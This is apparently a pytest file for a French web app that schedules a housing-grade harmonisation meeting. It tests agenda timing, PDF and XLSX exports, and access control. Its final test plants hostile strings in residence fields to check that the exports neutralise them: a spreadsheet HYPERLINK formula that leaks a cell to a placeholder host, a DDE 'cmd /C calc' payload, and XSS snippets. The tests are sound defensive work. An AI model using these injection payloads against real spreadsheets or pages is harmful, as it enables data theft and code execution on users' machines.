"""The queue of divergent residences and the agenda, on a small hand-made campaign."""

from __future__ import annotations

import html
from io import BytesIO

from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import text

from tests.meeting.support import PASSWORD, SmallCampaign, login


def test_divergences_in_meeting_order(client, small_campaign: SmallCampaign) -> None:
    login(client, small_campaign.emails["elu"])
    body = client.get(f"/api/campaigns/{small_campaign.id}/divergences").json()
    assert body["total"] == 5
    assert body["harmonised"] == 1
    assert [r["code"] for r in body["residences"]] == ["R5", "R1", "R3", "R2", "R4"]
    first, second = body["residences"][0], body["residences"][1]
    assert (first["commune_name"], first["bailleur"]) == ("Achicourt", "Alpha Habitat")
    assert (second["commune_grade"], second["bailleur_grade"], second["gap"]) == (1, 3, 2)
    assert second["qpv_code"] == "QN06201M"
    assert second["qpv_name"] == "Quartier d'essai"
    assert abs(second["lon"] - 2.78) < 1e-9 and abs(second["lat"] - 50.29) < 1e-9
    harmonised = body["residences"][2]
    assert (harmonised["harmonised_grade"], harmonised["harmonisation_version"]) == (3, 1)
    assert harmonised["rationale"] == "accord en séance"
    assert body["campaign"]["can_record"] is False  # an elected official reads only
    statuses = ["visible"] * 4 + ["hidden", "none"]
    assert [entry["status"] for entry in body["legend"]] == statuses


def test_agenda_groups_pairs_and_times_them(client, small_campaign: SmallCampaign) -> None:
    login(client, small_campaign.emails["admin"])
    body = client.get(f"/api/campaigns/{small_campaign.id}/agenda").json()
    assert body["campaign"]["can_record"] is True
    sessions = [
        (
            s["commune_name"],
            s["bailleur"],
            [r["code"] for r in s["residences"]],
            s["pending"],
            s["duration_min"],
            s["start"],
            s["end"],
        )
        for s in body["sessions"]
    ]
    # 5 min per session + 3 min per residence left; R3 is already harmonised.
    assert sessions == [
        ("Achicourt", "Alpha Habitat", ["R5"], 1, 8, "09:00", "09:08"),
        ("Arras", "Alpha Habitat", ["R1", "R3", "R2"], 2, 11, "09:08", "09:19"),
        ("Arras", "Beta Logement", ["R4"], 1, 8, "09:19", "09:27"),
    ]
    assert (body["residences"], body["pending"], body["duration_min"]) == (5, 4, 27)
    assert (body["start"], body["end"]) == ("09:00", "09:27")
    assert body["sessions"][1]["dwellings"] == 230


def test_agenda_settings_are_configurable(client, small_campaign: SmallCampaign) -> None:
    login(client, small_campaign.emails["admin"])
    url = f"/api/campaigns/{small_campaign.id}/agenda"
    body = client.get(
        url, params={"minutes_per_residence": 10, "minutes_per_session": 0, "start": "14h30"}
    ).json()
    assert [s["duration_min"] for s in body["sessions"]] == [10, 20, 10]
    assert [s["start"] for s in body["sessions"]] == ["14:30", "14:40", "15:00"]
    assert body["end"] == "15:10"
    refused = client.get(url, params={"start": "25:00"})
    assert refused.status_code == 422
    assert "heure de début" in refused.json()["error"]["message"]


def test_agenda_pdf_is_readable(client, small_campaign: SmallCampaign) -> None:
    login(client, small_campaign.emails["admin"])
    response = client.get(f"/api/campaigns/{small_campaign.id}/agenda.pdf")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/pdf"
    assert "ordre-du-jour-arras-2026.pdf" in response.headers["content-disposition"]
    reader = PdfReader(BytesIO(response.content))
    box = reader.pages[0].mediabox
    assert (round(box.width), round(box.height)) == (595, 842)  # A4 portrait, in points
    content = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    assert "Achicourt × Alpha Habitat" in content
    assert "Journée d'harmonisation" in content
    assert "09:08–09:19" in content
    assert "Données de démonstration" in content


def test_agenda_xlsx_opens(client, small_campaign: SmallCampaign) -> None:
    login(client, small_campaign.emails["admin"])
    response = client.get(f"/api/campaigns/{small_campaign.id}/agenda.xlsx")
    assert response.status_code == 200
    book = load_workbook(BytesIO(response.content))
    assert book.sheetnames == ["Séances", "Résidences"]
    sessions = [row for row in book["Séances"].iter_rows(min_row=4, values_only=True)]
    assert [(s[0], s[1], s[3], s[5], s[6]) for s in sessions] == [
        (1, "09:00", 8, "Achicourt", "Alpha Habitat"),
        (2, "09:08", 11, "Arras", "Alpha Habitat"),
        (3, "09:19", 8, "Arras", "Beta Logement"),
    ]
    residences = list(book["Résidences"].iter_rows(min_row=4, values_only=True))
    assert [r[4] for r in residences] == ["R5", "R1", "R3", "R2", "R4"]
    assert residences[2][9:13] == (2, 4, 2, 3)


def test_meeting_access(client, small_campaign: SmallCampaign) -> None:
    url = f"/api/campaigns/{small_campaign.id}/divergences"
    anonymous = client.get(url)
    assert anonymous.status_code == 401
    assert anonymous.json()["error"]["code"] == "non_authentifie"
    page = client.get(f"/reunion/{small_campaign.id}", follow_redirects=False)
    assert page.status_code == 303
    assert page.headers["location"] == f"/connexion?next=/reunion/{small_campaign.id}"
    login(client, small_campaign.emails["other_admin"], PASSWORD)
    assert client.get(url).status_code == 403
    assert client.get(f"/api/campaigns/{small_campaign.id}/agenda.pdf").status_code == 403
    client.cookies.clear()
    # A commune follows the meeting within its rights: the residences of its commune only.
    login(client, small_campaign.emails["commune"], PASSWORD)
    own = client.get(url).json()
    assert [r["code"] for r in own["residences"]] == ["R1", "R3", "R2", "R4"]
    assert own["campaign"]["can_record"] is False
    sessions = client.get(f"/api/campaigns/{small_campaign.id}/agenda").json()["sessions"]
    assert [(s["commune_name"], s["start"]) for s in sessions] == [
        ("Arras", "09:08"),  # timed as for everybody: Achicourt's slot comes first
        ("Arras", "09:19"),
    ]
    with small_campaign.engine.begin() as conn:
        conn.execute(text("UPDATE campaign SET status = 'grading'"))
    assert client.get(url).status_code == 403  # grades stay blind while grading
    with small_campaign.engine.begin() as conn:
        conn.execute(text("UPDATE campaign SET status = 'harmonisation'"))
    client.cookies.clear()
    login(client, small_campaign.emails["elu"])
    assert client.get(url).status_code == 200
    assert client.get(f"/api/campaigns/{small_campaign.id + 99}/divergences").status_code == 404


def test_meeting_pages_render(client, small_campaign: SmallCampaign) -> None:
    csrf = login(client, small_campaign.emails["admin"])
    screen = client.get(f"/reunion/{small_campaign.id}")
    assert screen.status_code == 200
    assert 'data-can-record="true"' in screen.text
    planned = client.patch(
        f"/api/campaigns/{small_campaign.id}/day",
        json={"expected_version": 0, "minutes_per_residence": 4},
        headers={"X-CSRF-Token": csrf},
    )
    assert planned.status_code == 200, planned.text
    agenda = client.get(f"/reunion/{small_campaign.id}/ordre-du-jour")
    assert agenda.status_code == 200
    assert "Achicourt × Alpha Habitat" in agenda.text
    assert f"/api/campaigns/{small_campaign.id}/agenda.pdf" in agenda.text
    assert "09:00–09:09" in agenda.text
    assert 'id="day-settings"' in agenda.text  # the administrator plans the day
    client.cookies.clear()
    login(client, small_campaign.emails["other_admin"])
    refused = client.get(f"/reunion/{small_campaign.id}")
    assert refused.status_code == 403
    assert "ne concerne pas votre périmètre" in html.unescape(refused.text)


HOSTILE_NAME = '=HYPERLINK("http://exemple.test/?v="&A1;"Voir") <img src=x onerror=alert(1)>'
HOSTILE_ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_RATIONALE = "+1+1 <script>alert(2)</script> $\\frac{1}{0}$"


def _make_hostile(small_campaign: SmallCampaign) -> None:
    """R3 (harmonised) and R1 get names, addresses and a rationale written by an attacker."""
    with small_campaign.engine.begin() as conn:
        conn.execute(
            text("UPDATE residence SET name = :n, address = :a WHERE code IN ('R1', 'R3')"),
            {"n": HOSTILE_NAME, "a": HOSTILE_ADDRESS},
        )
        conn.execute(
            text("UPDATE harmonisation SET rationale = :r WHERE campaign_id = :c"),
            {"r": HOSTILE_RATIONALE, "c": small_campaign.id},
        )


def test_agenda_outputs_keep_hostile_text_as_text(client, small_campaign: SmallCampaign) -> None:
    """XLSX: never a formula; PDF: the text as written; page: escaped HTML."""
    _make_hostile(small_campaign)
    login(client, small_campaign.emails["admin"])
    base = f"/api/campaigns/{small_campaign.id}"
    book = load_workbook(BytesIO(client.get(f"{base}/agenda.xlsx").content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert {"'" + HOSTILE_NAME, "'" + HOSTILE_ADDRESS, "'" + HOSTILE_RATIONALE} <= texts

    pdf = client.get(f"{base}/agenda.pdf")
    assert pdf.status_code == 200
    assert "onerror=alert(1)" in "".join(
        p.extract_text() for p in PdfReader(BytesIO(pdf.content)).pages
    )

    page = client.get(f"/reunion/{small_campaign.id}/ordre-du-jour")
    assert page.status_code == 200
    assert "<img src=x" not in page.text and "<script>alert" not in page.text
    assert "&lt;img src=x onerror=alert(1)&gt;" in page.text
